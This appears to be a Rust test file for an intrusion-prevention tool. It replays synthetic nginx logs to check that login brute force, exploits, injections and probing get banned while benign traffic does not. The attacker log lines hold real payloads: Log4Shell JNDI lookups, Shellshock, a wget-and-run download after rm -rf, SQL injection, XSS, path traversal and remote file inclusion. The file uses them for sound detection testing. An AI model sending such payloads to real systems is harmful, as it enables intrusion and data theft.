//! `ips replay` of generated nginx logs whose ground truth is known by construction: one or
//! more attackers per web category of the built-in scenarios, each of which must be banned by
//! the scenario named, and benign look-alikes that must not be banned at all.
use std::collections::BTreeMap;

use ips::{
    decisions::profiles::{Outcome, Profiles, ProfilesConfig},
    parsers::{Clock, LogType},
    replay,
    scenarios::builtin,
};

/// 2026-11-20 08:00:00 UTC.
const START: i64 = 1_795_161_600;

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36";

/// A log under construction: (time in ms from START, line).
#[derive(Default)]
struct Log(Vec<(i64, String)>);

impl Log {
    /// One combined-format line at `ms` after START.
    fn line(&mut self, ms: i64, src: &str, request: &str, status: u16, ua: &str) {
        let t = START + ms / 1000;
        let days = t / 86_400;
        let (h, m, s) = (t % 86_400 / 3600, t % 3600 / 60, t % 60);
        // START is 2026-11-20; the logs here stay within the month.
        let day = 20 + (days - START / 86_400);
        self.0.push((
            ms,
            format!(
                "{src} - - [{day:02}/Nov/2026:{h:02}:{m:02}:{s:02} +0000] \"{request}\" {status} 512 \"-\" \"{ua}\""
            ),
        ));
    }

    fn get(&mut self, ms: i64, src: &str, uri: &str, status: u16, ua: &str) {
        self.line(ms, src, &format!("GET {uri} HTTP/1.1"), status, ua);
    }

    fn post(&mut self, ms: i64, src: &str, uri: &str, status: u16, ua: &str) {
        self.line(ms, src, &format!("POST {uri} HTTP/1.1"), status, ua);
    }

    /// The replay's bans: banned value (the source, or its /64) -> scenarios that banned it.
    fn replay(self) -> BTreeMap<String, Vec<String>> {
        self.replay_with(builtin())
    }

    fn replay_with(
        mut self,
        scenarios: Vec<ips::scenarios::Scenario>,
    ) -> BTreeMap<String, Vec<String>> {
        self.0.sort_by_key(|(t, _)| *t);
        let text: String = self.0.iter().map(|(_, l)| format!("{l}\n")).collect();
        let report = replay::run(
            text.as_bytes(),
            LogType::Nginx,
            scenarios,
            &Profiles::new(ProfilesConfig::default(), &[]),
            &[],
            Clock::utc(START * 1000),
        )
        .expect("replay");
        assert!(report.skipped.is_empty(), "{:?}", report.skipped);
        let mut out: BTreeMap<String, Vec<String>> = BTreeMap::new();
        for (alert, outcome) in &report.alerts {
            if let Outcome::Ban { value, .. } = outcome {
                out.entry(value.to_string())
                    .or_default()
                    .push(alert.scenario.clone());
            }
        }
        out
    }
}

/// Attackers that must be banned (value, the scenario that must be among the bans), and
/// benign sources that must not be.
fn check(log: Log, attackers: &[(&str, &str)], benign: &[&str]) {
    let bans = log.replay();
    let mut wrong = Vec::new();
    for (value, scenario) in attackers {
        match bans.get(*value) {
            Some(by) if by.iter().any(|s| s == scenario) => {}
            other => wrong.push(format!("{value}: want {scenario}, got {other:?}")),
        }
    }
    for b in benign {
        if let Some(by) = bans.get(*b) {
            wrong.push(format!("benign {b} banned by {by:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}\nall bans: {bans:#?}");
}

#[test]
fn login_brute_force_on_every_kind_of_form() {
    let mut log = Log::default();
    // 181 POST /login answered 401 from one address in three minutes.
    for i in 0..181 {
        log.post(i * 1000, "45.10.0.1", "/login", 401, "python-requests/2.31");
    }
    // A Joomla admin flood: 1,186 POSTs in four minutes, all answered 200.
    for i in 0..1186 {
        log.post(
            i * 200,
            "45.10.0.2",
            "/administrator/index.php",
            200,
            BROWSER,
        );
    }
    // A slow one: 750 GET+POST pairs over 14 hours, answered 200.
    for i in 0..750 {
        log.get(i * 67_000, "45.10.0.3", "/wp-login.php", 200, BROWSER);
        log.post(i * 67_000 + 900, "45.10.0.3", "/wp-login.php", 200, BROWSER);
    }
    // WordPress xmlrpc, Drupal, phpMyAdmin, from IPv6 addresses that change within a /64.
    for i in 0..40 {
        log.post(i * 1500, "45.10.0.4", "/xmlrpc.php", 200, "curl/8.0");
        log.post(
            i * 1500,
            &format!("2001:db8:bad:1::{:x}", i + 1),
            "/user/login",
            200,
            BROWSER,
        );
        log.post(i * 1500, "45.10.0.5", "/phpmyadmin/index.php", 200, BROWSER);
    }
    // Benign: a user who mistypes twice, then logs in; an office NAT where 30 people log in
    // over an hour (302) and browse; an admin opening the login page with its assets, some
    // missing, then the dashboard.
    for (k, status) in [401, 401, 302].iter().enumerate() {
        log.post(k as i64 * 8000, "198.51.100.1", "/login", *status, BROWSER);
    }
    for u in 0..30 {
        let t = u * 120_000;
        log.get(t, "198.51.100.2", "/wp-login.php", 200, BROWSER);
        log.post(t + 5000, "198.51.100.2", "/wp-login.php", 302, BROWSER);
        for p in 0..8 {
            log.get(
                t + 6000 + p * 3000,
                "198.51.100.2",
                &format!("/wp-admin/post.php?post={u}{p}"),
                200,
                BROWSER,
            );
        }
    }
    log.get(0, "198.51.100.3", "/wp-login.php", 200, BROWSER);
    for (k, asset) in [
        "/wp-admin/css/login.min.css",
        "/wp-admin/css/forms.css",
        "/wp-includes/js/a.js",
        "/wp-admin/images/wordpress-logo.svg",
        "/wp-admin/css/l10n.css",
        "/wp-admin/css/buttons.css",
    ]
    .iter()
    .enumerate()
    {
        log.get(
            100 + k as i64,
            "198.51.100.3",
            asset,
            if k % 2 == 0 { 404 } else { 200 },
            BROWSER,
        );
    }
    log.post(9000, "198.51.100.3", "/wp-login.php", 302, BROWSER);
    for (k, page) in [
        "/wp-admin/",
        "/wp-admin/edit.php",
        "/wp-admin/post-new.php",
        "/wp-admin/upload.php",
        "/wp-admin/plugins.php",
        "/wp-admin/options-general.php",
    ]
    .iter()
    .enumerate()
    {
        log.get(10_000 + k as i64 * 700, "198.51.100.3", page, 200, BROWSER);
    }
    check(
        log,
        &[
            ("45.10.0.1", "http-login-refused"),
            ("45.10.0.2", "http-login-bf"),
            ("45.10.0.3", "http-login-slow-bf"),
            ("45.10.0.4", "http-login-bf"),
            ("2001:db8:bad:1::/64", "http-login-bf"),
            ("45.10.0.5", "http-login-bf"),
        ],
        &["198.51.100.1", "198.51.100.2", "198.51.100.3"],
    );
}

#[test]
fn known_exploits_are_banned_on_the_first_request() {
    let mut log = Log::default();
    let exploits = [
        (
            "45.20.0.1",
            "GET /?x=${jndi:ldap://45.20.0.1:1389/a} HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.2",
            "GET /?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%2Fa%7D HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.3",
            "GET / HTTP/1.1",
            "${jndi:ldap://45.20.0.3/Exploit}",
        ),
        (
            "45.20.0.4",
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.5",
            "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.6",
            "GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.7",
            "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.8",
            "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.9",
            "GET /user/register?element_parents=account/mail/%23value&ajax_form=1 HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.10",
            "GET / HTTP/1.1",
            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        ),
        (
            "45.20.0.11",
            "GET /index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.12",
            "POST /_ignition/execute-solution HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.13",
            "GET /shell?cd+/tmp;rm+-rf+*;wget+http://45.20.0.13/x.sh;sh+x.sh HTTP/1.1",
            "Hello, world",
        ),
        ("45.20.0.14", "GET /plus/mytag_js.php HTTP/1.1", BROWSER),
        (
            "45.20.0.15",
            "GET /index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start()} HTTP/1.1",
            BROWSER,
        ),
        (
            "45.20.0.16",
            "POST /index.php?x=eval($_POST[cmd]) HTTP/1.1",
            BROWSER,
        ),
    ];
    for (k, (src, request, ua)) in exploits.iter().enumerate() {
        log.line(k as i64 * 1000, src, request, 404, ua);
    }
    // Benign look-alikes: a page about log4j, a cgi-bin script, a query with braces.
    log.get(
        0,
        "198.51.100.10",
        "/blog/log4j-jndi-explained",
        200,
        BROWSER,
    );
    log.get(10, "198.51.100.10", "/cgi-bin/status.cgi", 200, BROWSER);
    log.get(
        20,
        "198.51.100.10",
        "/search?q=%7Bjson%7D+%24HOME",
        200,
        BROWSER,
    );
    let attackers: Vec<(&str, &str)> = exploits
        .iter()
        .map(|(s, _, _)| (*s, "http-exploit"))
        .collect();
    check(log, &attackers, &["198.51.100.10"]);
}

#[test]
fn injections_are_banned_on_the_second_request_after_decoding() {
    let mut log = Log::default();
    let injections: [(&str, [&str; 2]); 6] = [
        (
            "45.30.0.1",
            [
                "/item?id=1%20UNION%20SELECT%201,2,3--",
                "/item?id=1+union/**/all+select+user(),2",
            ],
        ),
        (
            "45.30.0.2",
            ["/item?id=1'%20OR%20'1'='1", "/item?id=1%27+and+sleep(5)--+"],
        ),
        (
            "45.30.0.3",
            [
                "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "/search?q=%253Csvg%2520onload%253Dalert(1)%253E",
            ],
        ),
        (
            "45.30.0.4",
            [
                "/ping?host=127.0.0.1;cat%20/etc/passwd",
                "/ping?host=x%7Cid",
            ],
        ),
        (
            "45.30.0.5",
            [
                "/download?file=../../../../etc/passwd",
                "/download?file=..%2f..%2f..%2fwindows/win.ini",
            ],
        ),
        (
            "45.30.0.6",
            [
                "/index.php?page=http://45.30.0.6/shell.txt?",
                "/index.php?inc=php://filter/convert.base64-encode/resource=index",
            ],
        ),
    ];
    for (k, (src, uris)) in injections.iter().enumerate() {
        for (n, uri) in uris.iter().enumerate() {
            log.get((k * 10 + n) as i64 * 1000, src, uri, 200, BROWSER);
        }
    }
    // Benign: one odd search, OAuth and login redirects to full URLs, a report with "select",
    // and a one-off script tag in a search box (once is not a ban).
    let benign = [
        "/search?q=select+the+best+union+plan",
        "/login?next=https://app.example.com/dashboard",
        "/oauth/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&state=x",
        "/share?url=https://news.example.org/a.html",
        "/reports?select=name,date&order=desc",
        "/search?q=how+to+use+%3Cscript%3E+tags",
        "/docs/../docs/index.html",
    ];
    for (k, uri) in benign.iter().enumerate() {
        log.get(k as i64 * 4000, "198.51.100.20", uri, 200, BROWSER);
    }
    let attackers: Vec<(&str, &str)> = injections
        .iter()
        .map(|(s, _)| (*s, "http-injection"))
        .collect();
    check(log, &attackers, &["198.51.100.20"]);
}

#[test]
fn probing_shell_hunting_and_malformed_floods_but_not_readers_or_crawlers() {
    let mut log = Log::default();
    // Web-shell hunting: 40 .php guesses, one every four seconds, answered 404.
    for i in 0..40 {
        log.get(
            i * 4000,
            "45.40.0.1",
            &format!(
                "/{}.php",
                ["shell", "wso", "up", "alfa", "x"][i as usize % 5].to_owned() + &i.to_string()
            ),
            404,
            BROWSER,
        );
    }
    // A CMS exploit scanner: 22 requests in two seconds, 404 and 418.
    for i in 0..22 {
        log.get(
            i * 90,
            "45.40.0.2",
            &format!("/wp-content/plugins/p{i}/readme.txt"),
            if i % 3 == 0 { 418 } else { 404 },
            BROWSER,
        );
    }
    // Malformed floods: TLS handshakes on the plain port and empty request lines.
    for i in 0..12 {
        log.line(
            i * 2000,
            "45.40.0.3",
            "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03",
            400,
            "-",
        );
        log.line(i * 2000, "45.40.0.4", "-", 400, "-");
    }
    // IPv6 probing from addresses changing within one /64.
    for i in 0..20 {
        log.get(
            i * 300,
            &format!("2001:db8:bad:2::{:x}", i + 1),
            &format!("/backup{i}.zip"),
            404,
            BROWSER,
        );
    }
    // Open proxy probes, and the same missing page asked three times a second.
    for i in 0..3 {
        log.get(
            i * 1000,
            "45.40.0.6",
            "http://example.com/",
            400,
            "Go-http-client/1.1",
        );
        log.line(
            i * 1000 + 1,
            "45.40.0.6",
            "CONNECT example.com:443 HTTP/1.1",
            400,
            "Go-http-client/1.1",
        );
    }
    for i in 0..300 {
        log.line(
            i * 333,
            "45.40.0.7",
            "PROPFIND /admin%24 HTTP/1.1",
            404,
            "Microsoft-WebDAV-MiniRedir/5.1.2600",
        );
    }
    // Windows admin shares over WebDAV, slowly (a worm), beside a client mapping a WebDAV
    // folder (OPTIONS and PROPFIND on the site's root).
    for i in 0..6 {
        let share = if i % 2 == 0 { "/admin%24" } else { "/c%24" };
        log.line(
            i * 90_000,
            "45.40.0.8",
            &format!("PROPFIND {share} HTTP/1.1"),
            404,
            "Microsoft-WebDAV-MiniRedir/5.1.2600",
        );
        log.line(
            i * 90_000,
            "198.51.100.36",
            "OPTIONS / HTTP/1.1",
            200,
            "Microsoft-WebDAV-MiniRedir/10.0.19045",
        );
        log.line(
            i * 90_000 + 1,
            "198.51.100.36",
            "PROPFIND / HTTP/1.1",
            405,
            "Microsoft-WebDAV-MiniRedir/10.0.19045",
        );
    }
    // An attack tool by its user agent.
    log.get(
        0,
        "45.40.0.5",
        "/",
        200,
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    );

    // Benign: a reader whose page misses 15 images; a user opening 15 tabs at once (with their
    // assets); a corporate proxy (many users, one address); an API poller every 3 s for two
    // hours (some 401s as tokens expire); a search engine crawling fast; a single 404; a
    // browser that hits HTTPS on the plain port once.
    log.get(0, "198.51.100.30", "/article/42", 200, BROWSER);
    for i in 0..15 {
        log.get(
            200 + i * 10,
            "198.51.100.30",
            &format!("/img/photo{i}.jpg"),
            404,
            BROWSER,
        );
    }
    for i in 0..15 {
        log.get(
            i * 120,
            "198.51.100.31",
            &format!("/news/{i}"),
            200,
            BROWSER,
        );
        for a in [
            "/css/site.css",
            "/js/app.js",
            "/fonts/a.woff2",
            "/favicon.ico",
        ] {
            log.get(i * 120 + 50, "198.51.100.31", a, 200, BROWSER);
        }
    }
    for i in 0..1800 {
        let status = if i % 97 == 0 { 404 } else { 200 };
        log.get(
            i * 1000,
            "198.51.100.32",
            &format!("/page/{}", i % 400),
            status,
            BROWSER,
        );
    }
    for i in 0..2400 {
        let status = if i % 200 == 0 { 401 } else { 200 };
        log.get(
            i * 3000,
            "198.51.100.33",
            "/api/v1/status",
            status,
            "okhttp/4.12",
        );
    }
    for i in 0..1800 {
        let status = if i % 20 == 0 { 404 } else { 200 };
        log.get(
            i * 333,
            "66.249.66.1",
            &format!("/p/{i}"),
            status,
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        );
    }
    log.get(5000, "198.51.100.34", "/old-link", 404, BROWSER);
    log.line(
        6000,
        "198.51.100.35",
        "\\x16\\x03\\x01\\x02\\x00\\x01",
        400,
        "-",
    );
    log.line(
        6100,
        "198.51.100.35",
        "\\x16\\x03\\x01\\x02\\x00\\x01",
        400,
        "-",
    );
    check(
        log,
        &[
            ("45.40.0.1", "http-webshell-hunt"),
            ("45.40.0.2", "http-probing"),
            ("45.40.0.3", "http-malformed"),
            ("45.40.0.4", "http-malformed"),
            ("2001:db8:bad:2::/64", "http-probing"),
            ("45.40.0.5", "http-bad-user-agent"),
            ("45.40.0.6", "http-open-proxy-probe"),
            ("45.40.0.7", "http-refused-flood"),
            ("45.40.0.8", "http-admin-share-probe"),
        ],
        &[
            "198.51.100.30",
            "198.51.100.31",
            "198.51.100.32",
            "198.51.100.33",
            "66.249.66.1",
            "198.51.100.34",
            "198.51.100.35",
            "198.51.100.36",
        ],
    );
}

/// A site's own login form, named in `[detection] login_paths`, is watched like the common ones.
#[test]
fn a_login_form_named_in_the_config_is_watched() {
    let flood = || {
        let mut log = Log::default();
        for i in 0..30 {
            log.post(i * 500, "45.50.0.1", "/members/enter", 200, BROWSER);
        }
        log
    };
    assert!(
        flood().replay().is_empty(),
        "not a known login form: not a login brute force"
    );
    let config = ips::config::DetectionConfig {
        login_paths: vec!["/members/enter/".into()],
        ..Default::default()
    };
    let bans = flood().replay_with(config.scenarios().expect("scenarios"));
    assert_eq!(
        bans.get("45.50.0.1").map(Vec::as_slice),
        Some(&["http-login-bf".to_owned()][..]),
        "{bans:?}"
    );
}
